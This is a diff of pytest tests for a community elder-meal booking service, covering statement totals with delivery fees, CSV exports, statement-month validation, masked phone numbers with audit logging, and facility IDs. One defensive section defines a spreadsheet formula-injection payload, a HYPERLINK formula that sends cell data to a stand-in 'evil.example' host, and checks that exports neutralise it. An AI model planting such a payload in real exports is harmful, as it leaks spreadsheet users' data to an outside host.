@@ -3,10 +3,12 @@ moving the clock."""
 import csv
 import io
 from datetime import date, datetime, timedelta
+from decimal import Decimal
 
 import pytest
 import sqlalchemy as sa
 
+from models.audit import AuditEntry
 from models.base import db
 from models.meals import MealBooking, MealSlot
 from models.notifications import Notification
@@ -15,7 +17,7 @@ from service import clock
 from service.clock import SHANGHAI
 from service.meals import reminders
 from tests.api.test_meals import DAY, book, born, m  # noqa: F401 (fixture)
-from tests.factories import auth, make_meal_card, make_meal_slot, make_user
+from tests.factories import auth, make_meal_card, make_meal_site, make_meal_slot, make_user
 
 
 def elder_at(m, years, unit=None, name="张阿婆", **card):
@@ -118,6 +120,11 @@ def test_statement_counts_only_served_meals_per_tier(client, m, known):
     assert totals["list_total"] == "61.00"       # 15 + 15 + 16 + 15
     assert totals["subsidy_total"] == "19.00"    # 3 + 7 + 4 + 5
     assert totals["payable_total"] == "44.00"    # 12 + 8 + 12 + 12 (incl. the 2.00 fee)
+    assert totals["delivery_fees"] == "2.00"     # e's delivery
+    # The totals add up like every line: list − subsidy + delivery fees = payable.
+    for row in [*body["lines"], totals]:
+        assert Decimal(row["list_total"]) - Decimal(row["subsidy_total"]) + Decimal(row["delivery_fees"]) == \
+            Decimal(row["payable_total"])
     # Operator side (65–74 ¥0.80, 75+ ¥1.50): a 0.80, c 2 × 0.80, b 1.50, e 1.50.
     assert {o["tier"]: (o["meals"], o["amount"]) for o in body["operator_subsidy"]} == \
         {"op65": (3, "2.40"), "op75": (2, "3.00")}
@@ -127,19 +134,25 @@ def test_statement_counts_only_served_meals_per_tier(client, m, known):
     csv_text = client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11&format=csv",
                           headers=auth(m.operator)).get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))))
-    assert rows[-1][3] == "TOTAL" and rows[-1][5:9] == ["5", "61.00", "19.00", "44.00"]
+    assert rows[-1][3] == "TOTAL" and rows[-1][5:10] == ["5", "61.00", "19.00", "44.00", "2.00"]
     # The street roll-up, for the street's admin only.
     roll = client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11", headers=auth(m.admin))
     assert roll.status_code == 200
     assert roll.json["totals"] == {"meals": 5, "subsidy_total": "19.00", "operator_subsidy_total": "5.40",
-                                   "payable_total": "44.00"}
+                                   "payable_total": "44.00", "delivery_fees": "2.00"}
+    assert [(s["site_id"], s["payable_total"], s["delivery_fees"]) for s in roll.json["sites"]] == \
+        [(m.site.id, "44.00", "2.00")]
     assert client.get(f"/api/v1/meal-statements?street_id={m.world.other_street.id}&month=2026-11",
                       headers=auth(m.admin)).status_code == 403
     assert client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11",
                       headers=auth(m.operator)).status_code == 403
-    roll_csv = client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11&format=csv",
-                          headers=auth(m.admin))
-    assert roll_csv.mimetype == "text/csv" and "TOTAL" in roll_csv.get_data(as_text=True)
+    roll_csv = csv_rows(client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11"
+                                   "&format=csv", headers=auth(m.admin)))
+    header = roll_csv[0]
+    site_row, total_row = (dict(zip(header, row)) for row in roll_csv[1:])
+    assert total_row["site"] == "TOTAL"
+    assert (site_row["payable_total"], site_row["delivery_fees"]) == ("44.00", "2.00")
+    assert (total_row["payable_total"], total_row["delivery_fees"]) == ("44.00", "2.00")
 
 
 # --- sweeps ---------------------------------------------------------------------------------------------------
@@ -253,3 +266,128 @@ def test_unpromoted_waitlist_entries_end_when_the_meal_begins(client, m):
     assert reminders.mark_no_shows()["waitlist_expired"] == 1
     expired = db.session.get(MealBooking, waiting["id"])
     assert (expired.status, expired.cancel_reason) == ("cancelled", "候补未成功")
+
+
+# --- CSV exports: a cell a spreadsheet would run as a formula comes out as text -------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:], newline="")))
+
+
+def test_manifest_csv_neutralises_formula_cells(client, m):
+    diner = elder_at(m, 85, unit=m.world.units[0], name="@沈阿公")
+    made = book(client, diner, m, mode="delivery", diet_note=EVIL)
+    assert made.status_code == 201, made.json
+    m.set_meal.name = "+两荤一素套餐"
+    db.session.commit()
+    rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}&format=csv",
+                               headers=auth(m.operator)))
+    cells = [value for row in rows for value in row]
+    assert "'" + EVIL in cells                      # the special diet row and the delivery row
+    assert EVIL not in cells
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
+    assert "'+两荤一素套餐" in cells and "'@***" in cells
+    delivery = next(row for row in rows if row[2] == "delivery")
+    assert delivery[-1] == "'" + EVIL
+
+
+def test_statement_csvs_neutralise_formula_cells(client, m, known):
+    made, users = known
+    clock.set_now(datetime(2026, 11, 23, 11, 30, tzinfo=SHANGHAI))
+    for key in ("a", "e"):
+        assert client.post(f"/api/v1/meal-sites/{m.site.id}/serve", json={"code": made[key]["code"]},
+                           headers=auth(m.operator)).status_code == 200
+    m.site.name = EVIL
+    m.world.street.name = "-万里街道"
+    db.session.commit()
+    site_rows = csv_rows(client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11&format=csv",
+                                    headers=auth(m.operator)))
+    assert [row[0] for row in site_rows[1:]] == ["'" + EVIL] * (len(site_rows) - 1)
+    street_rows = csv_rows(client.get(f"/api/v1/meal-statements?street_id={m.world.street.id}&month=2026-11"
+                                      "&format=csv", headers=auth(m.admin)))
+    assert {row[0] for row in street_rows[1:]} == {"'-万里街道"}
+    assert street_rows[1][2] == "'" + EVIL
+    for rows in (site_rows, street_rows):
+        assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
+
+
+# --- the statement month ----------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("month", ["9999-12", "1999-12", "2100-01", "0001-01"])
+def test_a_statement_month_out_of_range_is_422_naming_month(client, m, month):
+    paths = (f"/api/v1/meal-sites/{m.site.id}/statement?month={month}",
+             f"/api/v1/meal-statements?street_id={m.world.street.id}&month={month}",
+             f"/api/v1/meal-sites/{m.site.id}/statement?month={month}&format=csv")
+    for path in paths:
+        response = client.get(path, headers=auth(m.admin))
+        assert response.status_code == 422, (path, response.status_code)
+        assert "month" in response.json["errors"] and "月份" in response.json["message"]
+    english = client.get(paths[0], headers=auth(m.admin, **{"Accept-Language": "en"}))
+    assert english.status_code == 422 and "month" in english.json["message"]
+
+
+@pytest.mark.parametrize("month", ["2000-01", "2099-12"])
+def test_the_first_and_last_statement_months(client, m, month):
+    for path in (f"/api/v1/meal-sites/{m.site.id}/statement?month={month}",
+                 f"/api/v1/meal-statements?street_id={m.world.street.id}&month={month}"):
+        response = client.get(path, headers=auth(m.admin))
+        assert response.status_code == 200 and response.json["totals"]["meals"] == 0
+
+
+# --- the delivery list's phone, the site's facility ---------------------------------------------------------------
+
+def test_the_delivery_list_gives_the_sites_operator_the_diners_phone(client, m):
+    first = make_user(name="沈阿公", phone="13812345678", neighbourhood_id=m.world.nb.id, birth_date=born(90))
+    db.session.get(ResidentProfile, first.id).unit_id = m.world.units[0].id
+    db.session.commit()
+    second = elder_at(m, 85, unit=m.world.units[2], name="朱阿婆", lives_alone=True)   # no phone on record
+    for diner in (first, second):
+        assert book(client, diner, m, mode="delivery").status_code == 201
+    path = f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}"
+    route = client.get(path, headers=auth(m.operator)).json["slots"][0]["delivery"]
+    assert [(stop["diner"], stop["phone"]) for stop in route] == [("沈**", "13812345678"), ("朱**", None)]
+    viewed = db.session.execute(sa.select(AuditEntry).where(AuditEntry.action == "meal_manifest.phones_viewed")
+                                ).scalars().all()
+    assert [(e.actor_user_id, e.object_type, e.object_id) for e in viewed] == \
+        [(m.operator.id, "meal_site", str(m.site.id))]
+    rows = csv_rows(client.get(path + "&format=csv", headers=auth(m.operator)))
+    stops = [dict(zip(rows[0], row)) for row in rows if row[2] == "delivery"]
+    assert [(stop["diner"], stop["phone"]) for stop in stops] == [("沈**", "13812345678"), ("朱**", "")]
+    # Staff who may see the manifest are not the site's operator: the phone stays masked.
+    staff_route = client.get(path, headers=auth(m.staff)).json["slots"][0]["delivery"]
+    assert [stop["phone"] for stop in staff_route] == ["138****5678", None]
+    staff_rows = csv_rows(client.get(path + "&format=csv", headers=auth(m.staff)))
+    assert "13812345678" not in {value for row in staff_rows for value in row}
+    assert len(db.session.execute(sa.select(AuditEntry).where(
+        AuditEntry.action == "meal_manifest.phones_viewed")).scalars().all()) == 2     # the operator's two reads
+
+
+def test_every_answer_about_a_site_names_the_same_facility(client, m, known):
+    from tests.factories import make_facility
+
+    facility = make_facility(category="meal", lat=m.site.lat, lng=m.site.lng, name=m.site.name,
+                             street_id=m.world.street.id)
+    facility.meal_site_id = m.site.id
+    db.session.commit()
+    user = elder_at(m, 70, name="钱阿婆")
+    listed = client.get("/api/v1/meal-sites", headers=auth(user)).json["items"]
+    nearby = client.get("/api/v1/meal-sites?lat=31.2703&lng=121.4086", headers=auth(user)).json["items"]
+    sites = [next(s for s in listed if s["id"] == m.site.id), nearby[0],
+             client.get(f"/api/v1/meal-sites/{m.site.id}", headers=auth(user)).json,
+             client.get(f"/api/v1/meal-sites/{m.site.id}/slots?date={DAY}", headers=auth(user)).json["site"],
+             client.get(f"/api/v1/meal-sites/{m.site.id}/manifest?date={DAY}", headers=auth(m.operator)).json["site"],
+             client.get(f"/api/v1/meal-sites/{m.site.id}/statement?month=2026-11",
+                        headers=auth(m.operator)).json["site"]]
+    assert [site["id"] for site in sites] == [m.site.id] * 6
+    assert [site["facility_id"] for site in sites] == [facility.id] * 6
+    # A site that is no facility says so everywhere.
+    other = make_meal_site(m.world, name="中浩云社区食堂")
+    make_meal_slot(other, DAY)
+    assert client.get(f"/api/v1/meal-sites/{other.id}/slots?date={DAY}", headers=auth(user)).json["site"][
+        "facility_id"] is None
